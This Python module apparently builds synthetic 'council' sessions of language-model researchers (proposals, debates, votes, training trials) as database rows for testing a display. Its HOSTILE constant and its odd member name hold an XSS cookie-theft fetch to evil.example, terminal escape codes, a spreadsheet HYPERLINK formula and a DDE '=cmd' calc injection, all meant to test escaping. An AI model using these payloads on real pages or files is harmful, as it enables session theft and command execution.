"""A night of any length as rows, with language models, debate, repairs, failures and a curve; hostile on request.

What: `write(path, rounds=…)` writes one session with everything a face can show, the same for the same seed. Why rows
and not a run: a thousand rounds take seconds. How to extend: a new row goes into the function of its step.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass, field
from pathlib import Path

from council.judge import book as books
from council.store import Store
from council.types import FAMILIES, Book, Kind

HOSTILE = (
    "<script>fetch('http://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\x1b[2J\x1b]0;owned\x07"
    '\u202egnp.exe\u202c\u200b\x00\x9b31m =HYPERLINK("http://evil.example") {{7*7}} ]]> --> </pre></style>'
)
LONG = "L" * 1_000_000
TITLES = (
    *("Raise the matrix learning rate", "Shorten the warmup to 2 %", "Replace GELU with squared ReLU"),
    *("Tie the embedding to the head", "Halve the batch, double the steps", "QK-norm before attention"),
    *("Cosine to zero instead of linear", "Drop weight decay on gains", "Widen the MLP to 5×", "Logit soft cap at 15"),
)
MODELS = {"opus": "claude-opus", "gpt": "gpt-large", "gemini": "gemini/pro", "tpe": None, "textbook": None}
START = 1_795_200_000.0


@dataclass
class Writer:
    """One session while it is written."""

    store: Store
    chance: random.Random
    session: int
    base: str
    members: tuple[str, ...]
    hostile: bool = False
    calls_a_round: int = 0
    number: int = 0
    at: float = START
    book: Book = field(default_factory=lambda: Book("", 0, 0, 0, 0))
    sigma: float = 0.008
    true: float = 1.8

    def say(self, text: str) -> str:
        """What a member writes: the text, followed by an attack if the night is hostile."""
        return f"{text} {HOSTILE}" if self.hostile else text

    def put(self, tbl: str, **row: object) -> int:
        """One row of this session."""
        return self.store.insert(tbl, {"session": self.session, **row})

    def commit(self) -> str:
        """A commit nobody else has."""
        return f"{self.chance.getrandbits(160):040x}"


def write(
    path: Path, rounds: int = 30, *, name: str = "2026-11-20", seed: int = 7, hostile: bool = False,
    calls: int | None = None, ended: bool = True, start: float = START,
) -> Path:  # fmt: skip
    """Write a session of so many rounds; `calls` pads each round to so many calls."""
    store = Store(path)
    with store.atomic():
        night = _open(store, name, seed, hostile, start)
        night.calls_a_round = calls or 0
        _round0(night)
        for number in range(1, rounds + 1):
            play(night, number)
        if ended:
            told = {"reason": f"{rounds} rounds done", "exit_code": 0, "rounds": rounds, "summary": {}}
            night.put("session_ends", at=night.at, **told)
    store.close()
    return path


def _open(store: Store, name: str, seed: int, hostile: bool, start: float) -> Writer:
    chance = random.Random(seed)
    members = tuple(MODELS) if not hostile else (*list(MODELS)[:-1], "=cmd|'/c calc'!A0<b>")
    base = f"{chance.getrandbits(160):040x}"
    config = {"judge": {"rule": "borda"}, "stop": {"rounds": 30}, "lab": {"device": "auto"}}
    session = store.insert("sessions", {
        "name": name, "at": start, "seed": f"{chance.getrandbits(256):064x}", "commit": base, "config": config,
        "program": "Lower the BPB.", "budget": 300.0,
        "versions": {"council": "0.1.0", "python": "3.11.7", "torch": "2.13.0"},
    })  # fmt: skip
    for member in members:
        model = MODELS.get(member)
        kind = "litellm" if model else ("optuna" if member == "tpe" else "textbook")
        store.insert("members", {
            "session": session, "name": member, "kind": kind, "model": model, "options": {}, "votes": 1,
        })  # fmt: skip
    store.insert("members", {
        "session": session, "name": "grok", "kind": "litellm", "model": "xai/grok", "options": {}, "votes": 0,
        "absent": "XAI_API_KEY is not set",
    })  # fmt: skip
    return Writer(store, chance, session, base, members, hostile, at=start)


def _round0(night: Writer) -> None:
    values = [_run(night, 0, "baseline", night.base, None) for _ in range(2)]
    night.book = books.start(night.base, values, night.sigma**2)
    _book(night, 0, "start")


def play(night: Writer, number: int) -> None:
    """One more round of the session."""
    night.put("rounds", round=number, at=night.at, parent=night.book.commit)
    night.at += 30
    proposals = _propose(night, number)
    if number % 17 == 16:
        _replicate(night, number)
        return
    _debate(night, number, proposals)
    pick = _vote(night, number, proposals)
    _trial(night, number, pick)


def _propose(night: Writer, number: int) -> dict[str, int]:
    found = {}
    for index, member in enumerate(night.members):
        if member == "gpt" and number % 11 == 5:
            night.put("outcomes", round=number, step="propose", member=member, attempt=1, at=night.at,
                      kind="timeout", detail=night.say("no answer within 600 s"))  # fmt: skip
            continue
        title = TITLES[(number * 3 + index) % len(TITLES)]
        _call(night, number, "propose", member, f"I propose: {title}. It lowers the loss because of curvature.")
        row = _proposal(night, number, "propose", member, title)
        ok = not (member == "gemini" and number % 4 == 1)
        night.put("checks", round=number, proposal=row, at=night.at, valid=ok, seconds=0.4,
                  reason="" if ok else night.say("the SEARCH text of block 1 occurs 0 times"))  # fmt: skip
        if not ok:
            row = _proposal(night, number, "repair", member, title, row)
            night.put("checks", round=number, proposal=row, at=night.at, valid=1, reason="", seconds=0.4)
        found[member] = row
    return found


def _proposal(night: Writer, number: int, step: str, member: str, title: str, replaces: int | None = None) -> int:
    value = night.chance.randrange(10, 90)
    head = "--- a/lab/train.py\n+++ b/lab/train.py\n@@ -12,5 +12,6 @@ class Config:\n     depth = 6\n"
    body = f"-    lr = 0.0{value}\n+    lr = 0.0{value + 3}\n+    warmup = 0.02\n     batch = 64\n"
    tail = f"+    note = '{HOSTILE}'\n" if night.hostile else ""
    tail += f"+# {LONG}\n" if night.hostile and number == 1 and step == "propose" else ""
    return night.put(
        "proposals", round=number, step=step, member=member, attempt=1, at=night.at, replaces=replaces,
        title=night.say(title)[:4000], hypothesis=night.say(f"{title} because curvature is low early on."),
        family=FAMILIES[value % len(FAMILIES)], forecast=round(night.chance.uniform(0.2, 0.7), 2),
        edit={"path": "lab/train.py", "whole": None, "blocks": [{"search": "a", "replace": "b"}]},
        diff=head + body + tail, code=f"{night.chance.getrandbits(64):x}",
    )  # fmt: skip


def _call(night: Writer, number: int, step: str, member: str, text: str) -> None:
    if not MODELS.get(member):
        return
    attempt = 1
    while night.store.one("calls", session=night.session, round=number, step=step, member=member, attempt=attempt):
        attempt += 1
    messages = [
        {"role": "system", "content": "You are a researcher on a council."},
        {"role": "user", "content": f"Round {number}, step {step}. The best is 1.8. Propose one edit of train.py."},
    ]
    call = night.put(
        "calls", round=number, step=step, member=member, attempt=attempt, turn=0, at=night.at, provider="litellm",
        model=MODELS[member], request={"model": MODELS[member], "messages": messages}, reserved_usd=0.05,
    )  # fmt: skip
    if night.chance.random() < 0.01:
        return
    night.store.insert("replies", {
        "call": call, "at": night.at + 3, "status": "ok", "text": night.say(text),
        "raw": {"id": "x", "choices": [{"text": night.say(text)}]}, "tokens_in": 9000, "tokens_cached": 7000,
        "tokens_out": 450 + night.chance.randrange(300), "cost_usd": round(night.chance.uniform(0.005, 0.04), 5),
        "seconds": round(night.chance.uniform(4, 40), 1), "request_id": f"req-{call}",
    })  # fmt: skip


def _debate(night: Writer, number: int, proposals: dict[str, int]) -> None:
    names = list(proposals)
    for index, author in enumerate(names):
        if number % 3 and index > 1:
            continue
        critic = names[(index + 1) % len(names)]
        night.put("critiques", round=number, member=critic, proposal=proposals[author], at=night.at,
                  text=night.say("The warmup is already short; the gain may be within the noise."))  # fmt: skip
        _call(night, number, "debate", critic, "The warmup is already short.")
        night.put("responses", round=number, member=author, proposal=proposals[author], at=night.at,
                  text=night.say("True at 300 s; the schedule is what changes."))  # fmt: skip


def _vote(night: Writer, number: int, proposals: dict[str, int]) -> int:
    sums = dict.fromkeys(proposals.values(), 0.0)
    for judge in night.members:
        others = [p for m, p in proposals.items() if m != judge]
        night.chance.shuffle(others)
        shown = [[chr(65 + i), p] for i, p in enumerate(others)]
        own = [p for m, p in proposals.items() if m == judge]
        slate = night.put("slates", round=number, step="rank", judge=judge, at=night.at, shown=shown, recused=own)
        _call(night, number, "rank", judge, "I rank A first.")
        if judge == "gemini" and number % 9 == 4:
            night.put("outcomes", round=number, step="rank", member=judge, attempt=2, at=night.at, kind="bad_reply",
                      detail=night.say("the ranking names a label twice"))  # fmt: skip
            continue
        order = sorted(shown, key=lambda pair: (pair[1] * 7919 + number + len(judge)) % 101)
        falling = sorted((round(night.chance.uniform(0.1, 0.8), 2) for _ in order), reverse=True)
        stated = {label: p for (label, _), p in zip(order, falling, strict=True)}
        night.put("ballots", round=number, judge=judge, slate=slate, at=night.at,
                  ranking=[label for label, _ in order], stated=stated, mended=0)  # fmt: skip
        for place, (label, proposal) in enumerate(order):
            sums[proposal] += 1 - place / max(1, len(order) - 1)
            night.put("forecasts", round=number, judge=judge, proposal=proposal, p=stated[label], own=0)
        for proposal in own:
            night.put("forecasts", round=number, judge=judge, proposal=proposal, p=0.7, own=1)
    for step in range(max(0, night.calls_a_round - _count(night, number))):
        _call(night, number, f"extra{step % 3}", "opus", "Thinking about curvature.")
    scores = {str(p): s / max(1, len(night.members) - 1) for p, s in sums.items()}
    ranking = sorted(sums, key=lambda p: -sums[p])
    night.put("tallies", round=number, at=night.at, rule="borda", scores=scores, ranking=ranking, pick=ranking[0])
    night.at += 60
    return ranking[0]


def _count(night: Writer, number: int) -> int:
    sql = "SELECT count(*) AS n FROM calls WHERE session = ? AND [round] = ?"
    return next(night.store.query(sql, night.session, number))["n"]


def _run(night: Writer, number: int, role: str, commit: str, proposal: int | None, status: str = "ok",
         shift: float = 0.0) -> float:  # fmt: skip
    night.number += 1
    night.put(
        "experiments", round=number, number=night.number, role=role, at=night.at, commit=commit,
        parent=night.book.commit or night.base, proposal=proposal, code=commit[:12], sha256="0" * 64,
        seed=night.number, budget=300.0, split="validation",
    )  # fmt: skip
    night.at += 340
    bpb = night.true + shift + night.chance.gauss(0, night.sigma)
    night.put(
        "measurements", number=night.number, at=night.at, status=status, val_bpb=bpb if status == "ok" else None,
        reason="" if status == "ok" else night.say("CUDA out of memory" if status == "oom" else "NameError: ve"),
        s0=0.008, fingerprint='{"corpus": "sympy", "vocab_size": 2048}', sandbox="none",
        conditions={"device": "NVIDIA H200", "budget": 300.0, "torch": "2.13.0"}, train_seconds=300.0,
        total_seconds=338.0, raw={"status": status},
    )  # fmt: skip
    curve = [[t * 3.0, t * 40, 2.2 + 4 * math.exp(-t / 12)] for t in range(100)]
    night.put("logs", number=night.number, tail=night.say(f"step {night.number} done\nTraceback: NameError"),
              curve=curve)  # fmt: skip
    return bpb


def _book(night: Writer, number: int, cause: str) -> None:
    b = night.book
    night.put("books", round=number, number=night.number, at=night.at, cause=cause, commit=b.commit, since=1,
              code=b.commit[:12], b=b.b, v=b.v, b_base=b.b_base, v_base=b.v_base, sigma=night.sigma)  # fmt: skip


def _replicate(night: Writer, number: int) -> None:
    value = _run(night, number, "replicate", night.book.commit, None)
    night.book = books.replicate(night.book, night.sigma**2, value, None)
    _book(night, number, "replicate")
    returned = books.back(night.book, night.base)
    if returned is not None:
        night.book = returned
        _book(night, number, "back")


def _trial(night: Writer, number: int, pick: int) -> None:
    status = "crash" if number % 13 == 6 else "oom" if number % 19 == 8 else "rejected" if number == 21 else "ok"
    commit, gain = night.commit(), night.chance.gauss(-0.002, 0.006)
    value = _run(night, number, "trial", commit, pick, status, -gain)
    if status != "ok":
        kind = "rejected" if status == "rejected" else "crash"
        night.put("verdicts", round=number, number=night.number, at=night.at, kind=kind, settles=1,
                  reason=night.say("CUDA out of memory" if status == "oom" else "NameError: ve"),
                  booked_before=night.book.b, inputs={})  # fmt: skip
        _settle(night, number, pick, 0, -2.0)
        return
    judged = books.trial(night.book, night.sigma**2, value, None, commit)
    v = judged.verdict
    night.put("verdicts", round=number, number=night.number, at=night.at, kind=v.kind.value, reason=v.reason,
              bpb=v.bpb, booked_before=v.booked_before, delta=v.delta, sigmas=v.sigmas, expected=v.expected,
              belief=v.belief, inputs=dict(v.inputs), settles=1)  # fmt: skip
    night.book = judged.book
    if v.kind is Kind.KEEP:
        night.true -= gain
    _book(night, number, "trial")
    _settle(night, number, pick, int((v.delta or 0) > 0), max(-2.0, min(3.0, v.sigmas or 0.0)))


def _settle(night: Writer, number: int, pick: int, hit: int, r: float) -> None:
    for row in night.store.rows("forecasts", proposal=pick):
        night.put("settlements", round=number, number=night.number, proposal=pick, judge=row["judge"], p=row["p"],
                  own=row["own"], outcome=hit, brier=(row["p"] - hit) ** 2, r=r)  # fmt: skip
    for index, member in enumerate(night.members):
        brier = 0.2 + 0.02 * index
        night.put("reputation", round=number, number=night.number, member=member, settled=number, brier=brier)
